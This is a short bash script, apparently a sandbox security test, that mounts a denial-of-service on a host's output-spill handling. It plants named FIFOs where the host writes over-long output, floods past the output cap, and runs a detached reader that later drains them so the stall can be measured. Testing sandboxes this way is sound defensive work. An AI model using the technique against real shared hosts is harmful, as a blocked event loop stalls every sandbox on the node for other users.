#!/bin/bash
# Attack (denial of service) on the output spill: put FIFOs where the host will write an over-long output,
# then overflow the cap. Opening a FIFO for writing blocks until someone reads it: if the host opens it
# on its event loop, every sandbox on the node stalls. $1 = seconds after which readers drain the FIFOs
# for as long as the sandbox lives (so a vulnerable host recovers and the test can measure the stall; the
# host opens the file again for every chunk, hence the loops).
mkdir -p /tmp/ale-output
for n in $(seq 1 20); do mkfifo /tmp/ale-output/exec-$n.stdout; done
setsid bash -c "sleep $1; for f in /tmp/ale-output/*.stdout; do (while :; do cat \$f >/dev/null; done) & done; wait" </dev/null >/dev/null 2>&1 &
head -c 20000 /dev/zero | tr '\0' 'A'
echo
echo "VERDICT: BLOCKED"
